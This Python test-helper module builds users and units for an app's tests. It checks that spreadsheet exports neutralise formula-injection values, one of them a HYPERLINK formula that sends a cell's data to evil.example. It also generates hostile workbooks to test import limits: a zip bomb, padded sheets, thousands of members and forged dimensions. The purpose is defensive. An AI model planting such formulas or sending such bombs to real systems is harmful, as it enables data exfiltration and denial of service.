"""Builders for test data: sensible defaults, override what the test is about."""

from __future__ import annotations

import itertools

from sqlalchemy import select

from core import accounts, clock, units
from core.db import session
from core.models import Unit

_seq = itertools.count(1)


def some_unit(level: str = "county") -> Unit:
    return session.execute(select(Unit).where(Unit.level == level).order_by(Unit.id).limit(1)).scalar_one()


def make_unit(**overrides) -> Unit:
    n = next(_seq)
    values = {"name": f"测试单位{n}", "level": "township", "kind": "township", "area": "北林区",
              "parent_id": some_unit("county").id}
    values.update(overrides)
    return units.create_unit(actor=None, now=clock.now(), **values)


def make_user(role: str = "operator", password: str = "Passw0rd!", **overrides):
    n = next(_seq)
    values = {"username": f"{role}{n}", "display_name": f"测试{role}{n}", "unit_id": None}
    if role == "caseworker":
        values["unit_id"] = some_unit("county").id
    values.update(overrides)
    return accounts.create_user(actor=None, now=clock.now(), role=role, password=password, **values)


#: Values a spreadsheet would run as formulas: every export must write them as text.
FORMULA_VALUES = ('=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1", "-2+3", "@SUM(A1)", "\t=1+1")


def formula_cells(data: bytes) -> dict:
    """The cells of an xlsx export whose value is one of FORMULA_VALUES, by value."""
    import io

    from openpyxl import load_workbook

    found: dict = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in FORMULA_VALUES:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_written_as_text(data: bytes) -> None:
    """Each of FORMULA_VALUES is in the workbook, unchanged, typed as text and quote-prefixed."""
    found = formula_cells(data)
    assert set(found) == set(FORMULA_VALUES), sorted(found)
    cells = [cell for group in found.values() for cell in group]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


# --- hostile workbooks (import limits) -------------------------------------------------------------

def workbook_bytes(rows: list[list], title: str = "Sheet") -> bytes:
    import io

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _replace_members(content: bytes, replace: dict[str, object], extra: int = 0) -> bytes:
    """The workbook with some members' content replaced (bytes, or a callable writing to a stream),
    and `extra` empty members added."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            body = replace.get(info.filename)
            if body is None:
                dst.writestr(info.filename, src.read(info.filename))
            elif callable(body):
                with dst.open(info.filename, "w", force_zip64=True) as stream:
                    body(stream)
            else:
                dst.writestr(info.filename, body)
        for n in range(extra):
            dst.writestr(f"customXml/item{n}.xml", b"")
    return out.getvalue()


def bomb_workbook(rows: list[list], title: str = "Sheet", unpacked_mb: int = 200) -> bytes:
    """A small file whose sheet unpacks to `unpacked_mb` MB of the same row again and again (a "zip bomb")."""
    def sheet(stream):
        stream.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
                     b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        chunk = b'<row><c t="inlineStr"><is><t>di bao</t></is></c></row>' * 20_000
        for _ in range(unpacked_mb * 1024 * 1024 // len(chunk)):
            stream.write(chunk)
        stream.write(b"</sheetData></worksheet>")

    return _replace_members(workbook_bytes(rows, title), {"xl/worksheets/sheet1.xml": sheet})


def padded_workbook(rows: list[list], title: str = "Sheet", unpacked_mb: int = 5) -> bytes:
    """Within the size limit but compressed far more than any real sheet (whitespace padding)."""
    import io
    import zipfile

    content = workbook_bytes(rows, title)
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (unpacked_mb * 1024 * 1024))
    return _replace_members(content, {"xl/worksheets/sheet1.xml": padded})


def many_member_workbook(rows: list[list], title: str = "Sheet", members: int = 5000) -> bytes:
    return _replace_members(workbook_bytes(rows, title), {}, extra=members)


def forged_dimension_workbook(rows: list[list], title: str = "Sheet") -> bytes:
    """A tiny workbook whose sheet declares it spans A1:XFD1048576 (16,384 columns by 1,048,576 rows),
    with one more cell out in that far corner."""
    import io
    import re
    import zipfile

    content = workbook_bytes(rows, title)
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    sheet, n = re.subn(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', sheet)
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row></sheetData>'
    sheet, m = re.subn(rb"</sheetData>", far, sheet)
    assert n == m == 1
    return _replace_members(content, {"xl/worksheets/sheet1.xml": sheet})


class within:
    """`with within(2):` fails the test with TimeoutError once 2 s have passed, instead of letting a
    runaway parse hang the run (main thread only)."""

    def __init__(self, seconds: float):
        self.seconds = seconds

    def __enter__(self):
        import signal

        def expire(signum, frame):
            raise TimeoutError(f"still running after {self.seconds} s")

        self._previous = signal.signal(signal.SIGALRM, expire)
        signal.setitimer(signal.ITIMER_REAL, self.seconds)
        return self

    def __exit__(self, *exc):
        import signal

        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, self._previous)
        return False
